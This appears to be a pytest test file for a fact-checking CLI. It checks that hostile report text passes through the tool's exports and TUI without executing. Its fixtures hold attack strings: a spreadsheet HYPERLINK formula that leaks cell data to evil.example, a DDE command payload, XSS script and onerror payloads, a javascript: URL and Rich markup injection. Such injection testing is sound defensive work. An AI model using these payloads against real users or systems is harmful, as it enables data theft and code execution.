"""Hostile report text, end to end: read -> extract -> store -> export and TUI text, never obeyed.

The export and TUI suites test their writers on hand-made rows; this one feeds a hostile report
through the real `factcheck ingest` so whatever the reader and extractor keep of it reaches the
exports and the TUI's text helper as it would in a newsroom.
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from factcheck.cli import cli

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert('pwned')</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
MARKUP = "[bold red]FAKE[/bold red][link=http://evil.example]x[/link]"
REPORT = (
    f"{FORMULA} About 2,000 Islamic State fighters remain in Raqqa, according to {SCRIPT} the observatory.\n\n"
    f"@SUM(1+1) More than 25,000 civilians fled {ATTRIBUTE} the city, the United Nations said on Friday.\n\n"
    f"+cmd|' /C calc'!A0 Government forces hold 30 percent of the province {MARKUP}, a spokesman said.\n"
)
RECORD = {
    "text": "-2+3 Roughly 300 civilians fled Mosul on Monday, the UN said. =1+1",
    "title": f"{SCRIPT}{FORMULA}",
    "outlet": f"{ATTRIBUTE}{MARKUP}",
    "url": "javascript:alert(1)//",
    "date": "2017-06-01",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    (base / "hostile.txt").write_text(REPORT, encoding="utf-8")
    (base / "feed.jsonl").write_text(json.dumps(RECORD) + "\n", encoding="utf-8")
    db = base / "hostile.db"
    result = CliRunner().invoke(
        cli, ["--db", str(db), "ingest", "-q", str(base / "hostile.txt"), str(base / "feed.jsonl")]
    )
    assert result.exit_code == 0, result.output
    assert "2 new" in result.stdout
    return db


def _export(db: Path, tmp_path: Path, fmt: str, *extra: str) -> Path:
    target = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(cli, ["--db", str(db), "export", "--format", fmt, "-o", str(target), *extra])
    assert result.exit_code == 0, result.output
    return target


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        if cell.startswith(TRIGGERS):
            assert _is_number(cell), f"a spreadsheet would run {cell!r}"


@pytest.mark.parametrize("rows", ["claims", "relations"])
def test_csv_cells_never_start_a_formula(hostile_db: Path, tmp_path: Path, rows: str) -> None:
    path = _export(hostile_db, tmp_path, "csv", "--rows", rows)
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
    _assert_no_formula(cells)
    if rows == "claims":
        assert any("HYPERLINK" in cell or "observatory" in cell for cell in cells), (
            "the hostile sentence is missing"
        )


def test_xlsx_cells_never_start_a_formula(hostile_db: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(_export(hostile_db, tmp_path, "xlsx"))
    cells: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    _assert_no_formula(cells)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.in_script = False
        self.handlers: list[tuple[str, str, str | None]] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.handlers.append((tag, name, value))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script:
            self.scripts.append(data)


def test_html_never_runs_report_text(hostile_db: Path, tmp_path: Path) -> None:
    page = _export(hostile_db, tmp_path, "html").read_text(encoding="utf-8")
    parser = _Collector()
    parser.feed(page)
    assert "img" not in parser.tags, "report text became an <img> element"
    assert not parser.handlers, parser.handlers
    # The page's own scripts may carry the data as JSON, but never a live script from the report.
    # A report's <script> would show up as a script element of its own whose body is the payload.
    assert not any(script.strip().startswith("alert(") for script in parser.scripts), parser.scripts


def test_markdown_keeps_markup_inert(hostile_db: Path, tmp_path: Path) -> None:
    report = _export(hostile_db, tmp_path, "md").read_text(encoding="utf-8")
    assert "<script>" not in report and "<img" not in report


def test_json_round_trips_the_hostile_text(hostile_db: Path, tmp_path: Path) -> None:
    data = json.loads(_export(hostile_db, tmp_path, "json").read_text(encoding="utf-8"))
    assert "observatory" in json.dumps(data)


def test_tui_text_shows_stored_report_text_literally(hostile_db: Path) -> None:
    """What the TUI puts on screen for a stored sentence is the sentence, with markup inert."""
    import sqlite3

    from rich.console import Console

    from factcheck.tui.widgets.safe import safe_text

    connection = sqlite3.connect(hostile_db)
    values = [
        value
        for row in connection.execute("SELECT sentence, text, source_mention FROM claims")
        for value in row
        if value
    ]
    values += [
        value
        for row in connection.execute("SELECT title, outlet, origin FROM documents")
        for value in row
        if value
    ]
    connection.close()
    assert any("[bold red]" in value for value in values), "the markup did not reach the store"
    console = Console(file=io.StringIO(), width=400, color_system=None, legacy_windows=False)
    for value in values:
        rendered = safe_text(value)
        assert rendered.plain == " ".join(value.split("\n")), value
        assert not rendered.spans, value  # no style came from the text itself
        console.print(rendered)
    output = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[bold red]FAKE[/bold red]" in output
    assert "\x1b" not in output
